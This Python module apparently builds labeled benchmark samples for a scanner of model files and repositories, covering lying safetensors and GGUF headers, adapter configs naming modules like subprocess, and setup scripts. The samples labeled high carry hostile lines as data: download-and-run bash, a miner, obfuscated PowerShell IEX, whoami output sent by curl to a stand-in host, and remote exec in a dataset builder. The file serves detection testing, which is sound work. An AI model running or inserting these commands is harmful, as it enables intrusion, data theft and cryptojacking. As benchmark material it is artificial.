"""Metadata and headers that lie, and settings that name modules: each with what honest files of the kind hold."""

import base64
import json
import struct
from collections.abc import Iterator

from benchmarks.corpus.samples import Sample, benign, careful, high
from tests.core.scanning.formats.zips import Member, zipped


def samples() -> Iterator[Sample]:
    """One group after the other."""
    yield from _metadata()
    yield from _settings()
    yield from _commands()


def _tensors(metadata: dict[str, str]) -> bytes:
    header = {"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    source = json.dumps(header).encode()
    return struct.pack("<Q", len(source)) + source + bytes(4)


def _metadata() -> Iterator[Sample]:
    yield high("metadata", "flattened target", "m.safetensors", _tensors({"encoder._target_": "builtins.exec"}))
    yield benign(
        "metadata",
        "flattened target of a framework",
        "m.safetensors",
        _tensors({"encoder._target_": "torch.nn.Linear"}),
    )
    for told in (
        "See https://example.com/license. Install with pip install -U diffusers.",
        "Trained on 2 GPUs; run `python sample.py --ckpt model.safetensors`.",
        base64.b64encode(b"\xff\xd8\xff\xe0 thumbnail" * 9).decode(),
    ):
        yield benign("metadata", told[:12], "m.safetensors", _tensors({"modelspec.description": told}))
    impossible = struct.pack("<Q", 1 << 60) + b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    yield high("metadata", "header that no file holds", "m.safetensors", impossible + bytes(4))
    text = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 20) + b"general.architecture"
    yield high("metadata", "text that no file holds", "m.gguf", text + struct.pack("<IQ", 8, 1 << 63) + b"llama")


def _settings() -> Iterator[Sample]:
    for library, label in (
        ("helper_kit.run", careful),
        ("subprocess", high),
        ("transformers.models.llama.modeling_llama", benign),
        ("transformers_modules.x", benign),
        ("__main__", benign),
    ):
        mapping = {"base_model_class": "Runner", "parent_library": library}
        adapter = {"peft_type": "LORA", "auto_mapping": mapping, "base_model_name_or_path": "x/y"}
        yield label("settings", f"library {library}", "adapter_config.json", json.dumps(adapter))
    yield high("settings", "installer by its name", "Runtime.msi", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600))
    plain = "# Notes\n\nYou do **not** have to turn off Windows Defender.\n"
    yield benign("settings", "guard left on", "README.md", plain)


def _commands() -> Iterator[Sample]:
    fetched = "#!/bin/bash\nwget -q https://b.invalid/tools.zip -O /tmp/t.zip\n"
    started = fetched + "unzip -oq /tmp/t.zip -d /tmp/t\nchmod +x /tmp/t/run && /tmp/t/run &\n"
    yield high("commands", "unpacked and started unseen", "setup.sh", started)
    yield high("commands", "miner", "run.sh", "nohup ./xm -o pool.invalid:3333 -u 44abcdef &\n")
    only = fetched + "unzip -oq /tmp/t.zip -d /tmp/t\ncp -r /tmp/t/data ./data\nrm -rf /tmp/t\n"
    yield benign("commands", "unpacked", "setup.sh", only)
    joined = "$w = New-Object ('Ne'+'t.We'+'bClient')\n$s = $w.('Down'+'loadString').Invoke('http://b.invalid/a')\n"
    yield high("commands", "joined words", "setup.ps1", joined + "&('I'+'EX') $s\n")
    yield high(
        "commands",
        "what the machine is",
        "d.py",
        "import os\nos.system('whoami > w; curl -F f=@w https://b.invalid')\n",
    )
    pip = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-i', '{}', 'kit'])\n"
    yield high("commands", "packages unprotected", "kit.py", pip.format("http://pypi.invalid/simple"))
    yield benign("commands", "packages of PyTorch", "kit.py", pip.format("https://download.pytorch.org/whl/cpu"))
    builder = "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n"
    yield high(
        "commands", "builder", "d.py", builder + "        exec(open(dl.download('https://b.invalid/p.py')).read())\n"
    )
    reads = "        rows = open(dl.download('https://b.example/p.csv')).read()\n        return rows.split()\n"
    yield benign("commands", "builder", "e.py", builder + reads)
    wallet = "# Wallet model\n\nEnter your seed phrase at https://sync.invalid to activate it.\n"
    yield high("commands", "words of a wallet", "README.md", wallet)
    yield benign(
        "commands", "words of a wallet", "CARD.md", "# Filter\n\nIt finds a seed phrase or private key in text.\n"
    )
    unpacks = b"#!/bin/sh\ntail -n +4 $0 | tar xz -C /tmp\nexit\n" + bytes(range(128, 256)) * 4
    yield high("commands", "archive behind a shell", "setup.run", unpacks)
    package = zipped(Member("AppxManifest.xml", b"<Package/>"), Member("AppxBlockMap.xml", b"<x/>"))
    yield careful("commands", "package of Windows", "tool.msix", package)
    told = "# Filter\n\nClone the repository, then run `start.bat` (Windows) or `python loader.py` (Linux, macOS).\n"
    yield careful("commands", "program to start", "README.md", told, "start.bat", "loader.py")
    yield careful("commands", "program to start", "GUIDE.md", told)
    yield benign("commands", "program of another place", "README.md", told, "model.safetensors")
    system = "# Model\n\nOpen `cmd.exe` or PowerShell and run `python.exe demo.py`, then open demo.ipynb.\n"
    yield benign("commands", "programs of the system", "README.md", system)
    for place, label in {
        "git+https://github.com/some-one-new/kit.git": careful,
        "git+https://github.com/some-one-new/kit@main#egg=kit": careful,
        "git+https://github.com/some-one-new/kit.git@v1.2": benign,
        "git+https://github.com/some-one-new/kit@4c3f1d2": benign,
        "git+https://github.com/facebookresearch/segment-anything.git": benign,
        "scikit-learns": careful,
        "datasets": benign,
    }.items():
        yield label("requirements", place, "requirements.txt", f"torch\n{place}\n")
    project = "# UI\n\n`git clone https://github.com/some-one/ui.git`, then run `webui-user.bat` from Explorer.\n"
    yield benign("commands", "program of a project", "README.md", project)
    timed = "import timeit\nimport torch\nx = torch.zeros(5)\n\n\ndef add():\n    return x + x\n\n\n"
    timed += "print(timeit.timeit(add, number=9), timeit.Timer(lambda: add()).timeit(), timeit.timeit('1 + 1'))\n"
    yield benign("commands", "benchmark", "bench.py", timed)
